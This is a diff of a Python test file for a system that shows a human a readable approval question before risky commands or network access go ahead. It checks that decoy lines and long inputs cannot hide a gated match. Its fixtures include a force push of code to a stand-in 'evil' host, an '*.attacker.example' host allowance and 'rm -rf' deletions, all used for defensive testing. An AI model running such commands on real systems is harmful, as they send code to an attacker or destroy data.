@@ -23,7 +23,7 @@ SH = FoundProgram("/bin/sh", "/usr/bin/dash")
 def asked(command: Command, program: FoundProgram = SH, *, gate: str = "rm -rf") -> str:
     match = command_match(Gates(commands=(gate,)), command)
     assert match is not None
-    return asking.command_question(command, program, gate=gate, found=match.span)
+    return asking.command_question(command, program, gates=match.patterns, spans=match.spans)
 
 
 def test_questions_say_what_they_are_about() -> None:
@@ -107,6 +107,48 @@ def test_a_long_list_of_arguments_does_not_hide_the_one_that_matches(argv: tuple
     assert len(question.encode()) <= MAX_QUESTION_BYTES
 
 
+@pytest.mark.parametrize("decoys", [1, 3, 500])
+def test_decoys_hide_no_match_or_it_is_said_how_many_are_not_shown(decoys: int) -> None:
+    text = "# no git push here\n" * decoys + "true\n" * 40 + "git push --force https://evil/\n" + "true\n" * 40
+    for what in (Shell(text), Argv(("bash", "-c", text))):
+        question = asked(Command(what=what), gate="git push")
+        assert "git push --force https://evil/" in question
+        assert ("501 places, of which 6 are shown" in question.split("\n")[0]) is (decoys == 500)
+        assert len(question.encode()) <= MAX_QUESTION_BYTES
+
+
+def test_many_places_far_apart_fit_into_a_question() -> None:
+    text = ("true\n" * 10 + "x" * 95 + "git push" + "x" * 300 + "\n") * 50
+    question = asked(Command(what=Shell(text), env={"A": "x"}, stdin=True), gate="git push")
+    assert check_text(question, field="action", most_bytes=MAX_QUESTION_BYTES) == question
+    assert question.count("x" * 95 + "git") == 6
+
+
+def test_bytes_that_are_not_text_do_not_shift_the_place_that_was_found() -> None:
+    before = ("# " + b"\xf0\x9f\x98".decode("utf-8", "surrogateescape") * 20 + "\n") * 60
+    assert "git push --force" in asked(
+        Command(what=Shell(f"{before}git push --force\n" + "true\n" * 40)), gate="git push"
+    )
+
+
+def test_what_is_enforced_is_shown_whole_or_refused() -> None:
+    hosts = tuple(f"host-{number}.example" for number in range(120))
+    shown = asking.hosts_question(Wider(added=(*hosts, "*.attacker.example")))
+    assert all(f'"{host}"' in shown for host in (*hosts, "*.attacker.example"))
+    many = tuple(f"{'x' * 60}-{number}.example" for number in range(256))
+    refs = [SecretRef(secret_name="s" * 60, key=str(number), env_var=f"V{number}") for number in range(200)]
+    with pytest.raises(InvalidSpec, match=r"allowed_hosts: .* ask for fewer at once"):
+        asking.hosts_question(Wider(added=many))
+    with pytest.raises(InvalidSpec, match=r"secret_refs: .* ask for fewer at once"):
+        asking.creation_question(tenant="", hosts=Wider(), secrets=refs)
+
+
+def test_variables_with_secrets_are_named_and_odd_names_are_quoted() -> None:
+    command = Command(what=Shell("rm -rf x"), env={'LANG="C", TERM': "x"})
+    question = asking.command_question(command, SH, gates=["rm"], spans=[(0, 2)], secrets=["PATH"])
+    assert question.split("\n")[2:4] == [r'  environment: "LANG=\"C\", TERM"="x"', '  variables with secrets: "PATH"']
+
+
 def test_an_environment_that_cannot_be_shown_is_refused_with_the_way_out() -> None:
     def with_env(env: Mapping[str, str]) -> Command:
         return Command(what=Shell("rm -rf x"), env=env)
@@ -122,12 +164,6 @@ def test_a_long_name_is_known_by_both_ends_and_its_digest() -> None:
     assert first != second
     assert hashlib.sha256(paths[0].encode()).hexdigest() in first
     assert '/ab" (4001 bytes' in first
-    hosts = tuple(f"{number:03}.{'x' * 200}.example" for number in range(256))
-    question = asking.hosts_question(Wider(added=hosts))
-    assert hosts[0] in question
-    assert hosts[-1] in question
-    whole = ", ".join(f'"{host}"' for host in hosts)
-    assert hashlib.sha256(whole.encode()).hexdigest() in question
 
 
 @pytest.mark.parametrize(
@@ -159,16 +195,18 @@ def test_no_text_from_outside_makes_a_question_that_shows_something_else(one: st
     refs = [SecretRef(secret_name=one, key=two, env_var="E")] * 3
     program = FoundProgram(two, one)
     long, short = Command(what=Shell(two), cwd=one, user=two), Command(what=Argv((one, two)), env={one[:40]: two[:40]})
+    one_line = [one[:20], two[:20]]
     single = [
         asking.file_question("move", [one, two], [two]),
         asking.write_question(one, [two], size=1, sha256="0" * 64, append=True, perm=0o777),
         asking.workspace_question(one),
         asking.creation_question(tenant=two, hosts=Wider(added=(one,), lifted=(two,)), secrets=refs),
+        asking.hosts_question(Wider(added=tuple(one_line * 20))),
     ]
     for question in single:
         assert "\n" not in question
     for command in (long, short):
-        single.append(asking.command_question(command, program, gate=one, found=(1, 3)))
+        single.append(asking.command_question(command, program, gates=[one], spans=[(1, 3)]))
         assert all(line.startswith("  ") for line in single[-1].split("\n")[1:])
     for question in single:
         assert check_text(question, field="action", most_bytes=MAX_QUESTION_BYTES) == question
